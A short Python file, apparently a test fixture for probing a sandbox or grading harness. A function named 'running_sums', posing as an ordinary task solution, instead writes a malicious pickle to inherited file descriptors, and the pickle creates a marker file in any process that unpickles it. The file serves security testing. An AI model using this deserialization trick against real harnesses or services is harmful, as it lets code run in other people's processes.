"""Sends a pickle that would create a file in whoever loads it."""

import os


class Payload:
    def __reduce__(self):
        return (open, ("{marker}", "w"))


def running_sums(items):
    import pickle

    data = pickle.dumps(Payload())
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, len(data).to_bytes(4, "big") + data)
        except OSError:
            pass
    return [0]
